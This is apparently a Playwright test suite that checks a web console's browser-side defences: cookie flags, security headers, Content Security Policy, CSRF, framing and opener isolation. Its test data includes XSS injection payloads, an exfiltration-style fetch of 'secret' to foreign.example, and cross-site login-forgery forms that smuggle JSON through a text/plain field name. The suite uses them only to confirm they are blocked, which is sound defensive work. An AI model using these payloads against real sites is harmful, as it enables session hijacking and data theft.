import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { text } from '../../console/text.ts'
import { PASSWORD } from '../support/service.ts'
import { type ForeignSite, startForeignSite } from './foreign-site.ts'
import { button, COOKIE, heading, sentence, signIn, stage } from './stage.ts'

// What the browser itself holds the page to, and keeps other sites from.

const at = stage()
let foreign: ForeignSite
beforeAll(async () => {
  foreign = await startForeignSite()
})
afterAll(() => foreign.close())

const openSessions = async () => {
  const user = await at.service.user()
  const page = await at.open()
  await signIn(page, user)
  await heading(page, text.sessions.title).waitFor()
  return { user, page }
}

describe('the session', () => {
  test('is a cookie that no script sees, kept as tight as a browser can', async () => {
    const { page } = await openSessions()
    const cookies = await page.context().cookies()
    expect(cookies).toHaveLength(1)
    expect(cookies[0]).toMatchObject({ name: COOKIE, path: '/', domain: 'localhost', httpOnly: true, secure: true })
    expect(cookies[0]?.sameSite).toBe('Lax')
    expect(await page.evaluate('document.cookie')).toBe('')
    expect(await page.content()).not.toContain(cookies[0]?.value)
  })

  test('leaves nothing in the browser’s stores, and no secret in the address', async () => {
    const { user, page } = await openSessions()
    await page.getByRole('link', { name: text.navigation.account }).click()
    await page.getByLabel(text.fields.currentPassword, { exact: true }).fill(PASSWORD)
    await page.getByLabel(text.fields.newPassword, { exact: true }).fill(`${PASSWORD} anew`)
    await button(page, text.account.passwordSubmit).click()
    await sentence(page, text.account.passwordDone).waitFor()
    const left = () =>
      page.evaluate(`(async () => ({
        local: localStorage.length,
        session: sessionStorage.length,
        databases: (await indexedDB.databases()).length,
        caches: (await caches.keys()).length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        history: JSON.stringify(history.state),
        name: window.name,
      }))()`)
    const nothing = { local: 0, session: 0, databases: 0, caches: 0, workers: 0, history: 'null', name: '' }
    expect(await left()).toEqual(nothing)
    await button(page, text.navigation.signOut).click()
    await heading(page, text.signIn.title).waitFor()
    expect(await left()).toEqual(nothing)
    expect(page.url()).toBe(`${at.service.url}/#/`)
    expect(await page.context().cookies()).toEqual([])
    expect(await page.content()).not.toContain(user.email)
  })

  test('shows nothing when people go back after signing out', async () => {
    const { user, page } = await openSessions()
    await page.getByRole('link', { name: text.navigation.account }).click()
    await heading(page, text.account.title).waitFor()
    await button(page, text.navigation.signOut).click()
    await heading(page, text.signIn.title).waitFor()
    await page.goto('about:blank')
    await page.goBack()
    await heading(page, text.signIn.title).waitFor()
    expect(await page.content()).not.toContain(user.email)
  })
})

describe('the answers', () => {
  test('the page: its policy word for word, and no copy of it anywhere', async () => {
    const answer = await at.service.request('GET', '/')
    expect(answer.status).toBe(200)
    expect(answer.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'content-security-policy':
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; " +
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; " +
        "require-trusted-types-for 'script'; trusted-types 'none'",
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': 'camera=(), geolocation=(), microphone=(), payment=(), usb=()',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
    })
    expect(answer.headers['content-security-policy']).not.toContain('unsafe')
    expect(answer.setCookie).toEqual([])
  })

  test('its files: kept for good under names that change with them, compressed', async () => {
    const { text: page } = await at.service.request('GET', '/')
    const names = [...page.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, name = '']) => name)
    expect(names).toHaveLength(3)
    for (const name of names) {
      expect(name).toMatch(/^\/assets\/[a-z]+-[A-Z0-9]{8}\.(js|css|svg)$/)
      const headers = { 'accept-encoding': 'gzip, br' }
      const answer = await at.service.request('GET', name, { headers })
      expect(answer.status).toBe(200)
      expect(answer.headers).toMatchObject({
        'cache-control': 'public, max-age=31536000, immutable',
        'content-encoding': 'br',
        'x-content-type-options': 'nosniff',
        vary: 'Accept-Encoding, Origin, Sec-Fetch-Site',
      })
    }
  })
})

describe('the policy', () => {
  /** What the browser says it has refused while this ran in the page, as `directive: what`. */
  const refusedBy = async (page: Page, script: string): Promise<string[]> => {
    at.allow(/Content Security Policy|Refused to|requires 'Trusted|violates/i, /foreign: https:\/\/foreign\.example/)
    return page.evaluate<string[]>(`(async () => {
      const seen = []
      const done = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          seen.push(event.effectiveDirective)
          resolve()
        })
      })
      try {
        ${script}
      } catch {}
      await done
      return seen
    })()`)
  }

  const MISDEEDS: [what: string, directive: string, script: string][] = [
    [
      'an inline script',
      'require-trusted-types-for',
      `const element = document.createElement('script'); element.append('window.hacked = 1'); document.body.append(element)`,
    ],
    [
      'a foreign script',
      'require-trusted-types-for',
      `const element = document.createElement('script'); element.src = 'https://foreign.example/x.js'; document.body.append(element)`,
    ],
    ['a foreign module', 'script-src-elem', `await import('https://foreign.example/x.js')`],
    ['a module in an address', 'script-src-elem', `await import('data:text/javascript,window.hacked = 1')`],
    [
      'a handler in an attribute',
      'require-trusted-types-for',
      `document.body.setAttribute('onclick', 'window.hacked = 1')`,
    ],
    [
      'markup from text',
      'require-trusted-types-for',
      `document.body.innerHTML = '<img src=x onerror="window.hacked = 1">'`,
    ],
    [
      'an inline style',
      'style-src-elem',
      `const element = document.createElement('style'); element.append('body { opacity: 0 }'); document.body.append(element)`,
    ],
    ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'opacity: 0')`],
    ['a foreign image', 'img-src', `new Image().src = 'https://foreign.example/x.png'`],
    ['a foreign request', 'connect-src', `await fetch('https://foreign.example/', { method: 'POST', body: 'secret' })`],
    [
      'a frame',
      'frame-src',
      `const element = document.createElement('iframe'); element.src = 'https://foreign.example/'; document.body.append(element)`,
    ],
    [
      'a form that goes anywhere',
      'form-action',
      `const element = document.createElement('form'); element.action = 'https://foreign.example/'; document.body.append(element); element.submit()`,
    ],
    [
      'another base',
      'base-uri',
      `const element = document.createElement('base'); element.href = 'https://foreign.example/'; document.head.append(element)`,
    ],
    [
      'a policy for trusted types',
      'trusted-types',
      `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
    ],
  ]

  test('refuses whatever is not one of the page’s own files', async () => {
    const page = await at.open()
    await heading(page, text.signIn.title).waitFor()
    for (const [what, directive, script] of MISDEEDS) {
      expect(await refusedBy(page, script), what).toContain(directive)
      expect(await page.evaluate('window.hacked'), what).toBeUndefined()
    }
    expect(await page.evaluate('getComputedStyle(document.body).opacity')).toBe('1')
  })

  test('refuses to make code from text', async () => {
    const page = await at.open()
    // From a task of the page's own: what the debugger evaluates may evaluate.
    const refused = await refusedBy(page, `setTimeout(() => eval('window.hacked = 1'))`)
    expect(refused.join()).toMatch(/script-src|require-trusted-types-for/)
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    at.allow(/uncaught: /)
  })
})

describe('a page of another site', () => {
  const open = async (markup: string, beside: Page) => {
    foreign.page = markup
    const page = await beside.context().newPage()
    await page.goto(foreign.url)
    return page
  }
  const allowForeign = () =>
    at.allow(
      /^foreign: http:\/\/127\.0\.0\.1/,
      /CORS|Cross-Origin|ERR_FAILED|ERR_BLOCKED|net::|frame-ancestors|status of 4/,
    )
  const TARGETS = ['/auth/login', '/auth/logout', '/auth/register']

  test('can neither sign anybody in nor out by what a page may send', async () => {
    allowForeign()
    const { page: inside } = await openSessions()
    const mallory = await at.service.user()
    const before = (await at.tokenOf(inside)) ?? ''
    const page = await open('<title>foreign</title>', inside)
    const body = JSON.stringify({ email: mallory.email, password: PASSWORD })
    const outcomes = await page.evaluate<Record<string, string>>(`(async () => {
      const outcomes = {}
      const attempts = {
        'plain no-cors': { mode: 'no-cors', headers: { 'content-type': 'text/plain' } },
        'form no-cors': { mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
        'json cors': { mode: 'cors', headers: { 'content-type': 'application/json' } },
        'plain cors': { mode: 'cors', headers: { 'content-type': 'text/plain' } },
      }
      for (const path of ${JSON.stringify(TARGETS)})
        for (const [name, init] of Object.entries(attempts))
          outcomes[name + ' ' + path] = await fetch('${at.service.url}' + path, {
            method: 'POST', credentials: 'include', body: ${JSON.stringify(body)}, ...init,
          }).then(({ type, status }) => type + ' ' + status, () => 'refused')
      navigator.sendBeacon('${at.service.url}/auth/logout', '')
      return outcomes
    })()`)
    // Refused to the page that asked, whatever the service did with it.
    for (const [name, outcome] of Object.entries(outcomes)) expect(outcome, name).toBe('refused')
    expect(await at.tokenOf(inside)).toBe(before)
    expect(await at.accepts(before)).toBe(true)
    await inside.reload()
    await heading(inside, text.sessions.title).waitFor()
  })

  test.each([
    ['application/x-www-form-urlencoded', '/auth/logout'],
    ['text/plain', '/auth/logout'],
    ['application/x-www-form-urlencoded', '/auth/login'],
    ['text/plain', '/auth/login'],
    ['multipart/form-data', '/auth/login'],
  ])('can do nothing by a form of %s to %s', async (enctype, path) => {
    allowForeign()
    const { page: inside } = await openSessions()
    const mallory = await at.service.user()
    const before = (await at.tokenOf(inside)) ?? ''
    // As text/plain its one field is JSON, but for what stands between name and value.
    const name = `{"email":"${mallory.email}","password":"${PASSWORD}","label":"`.replaceAll('"', '&quot;')
    const markup = `<form method="post" enctype="${enctype}" action="${at.service.url}${path}">
      <input name="${name}" value="&quot;}"><button>go</button></form>`
    const page = await open(markup, inside)
    const answered = page.waitForResponse(`**${path}`)
    await page.getByRole('button', { name: 'go' }).click()
    const response = await answered
    expect(response.request().headers()['sec-fetch-site'] ?? 'cross-site').toBe('cross-site')
    expect(await response.headerValue('set-cookie')).toBeNull()
    expect(await at.tokenOf(inside)).toBe(before)
    expect(await at.accepts(before)).toBe(true)
  })

  test('cannot sign anybody in who is signed out', async () => {
    allowForeign()
    const mallory = await at.service.user()
    const victim = await at.open()
    const body = JSON.stringify({ email: mallory.email, password: PASSWORD })
    const page = await open('<title>foreign</title>', victim)
    const from = at.service.log.length
    await page.evaluate(`fetch('${at.service.url}/auth/login', {
      method: 'POST', mode: 'no-cors', credentials: 'include', body: ${JSON.stringify(body)},
    }).catch(() => {})`)
    const printed = () => at.service.log.slice(from).filter((line) => line.startsWith('POST '))
    await expect.poll(printed).toEqual([expect.stringMatching(/login 4\d\d /)]) // it did arrive
    expect(await victim.context().cookies()).toEqual([])
    expect(await at.service.tables.scan(at.service.tables.sessions)).not.toContainEqual(
      expect.objectContaining({ userId: { S: mallory.id } }),
    )
  })

  test('cannot frame the console', async () => {
    allowForeign()
    const { page: inside } = await openSessions()
    const page = await open(`<iframe src="${at.service.url}/"></iframe>`, inside)
    await expect.poll(() => page.frames().length).toBe(2)
    const framed = page.frames()[1]
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/)
    expect(await framed?.locator('#console').count()).toBe(0)
  })

  test('cannot reach the window it opens', async () => {
    allowForeign()
    const { page: inside } = await openSessions()
    const page = await open('<title>foreign</title>', inside)
    const opened = page.context().waitForEvent('page')
    await page.evaluate(`void (window.other = open('${at.service.url}/'))`)
    const popup = await opened
    await heading(popup, text.sessions.title).waitFor()
    expect(await popup.evaluate('opener')).toBeNull()
    expect(await page.evaluate('window.other.closed')).toBe(true) // severed
  })

  test('may link to it, and people arrive signed in', async () => {
    allowForeign()
    const { page: inside } = await openSessions()
    const page = await open(`<a href="${at.service.url}/">over there</a>`, inside)
    await page.getByRole('link').click()
    await heading(page, text.sessions.title).waitFor()
    expect(page.url()).toBe(`${at.service.url}/`)
  })
})
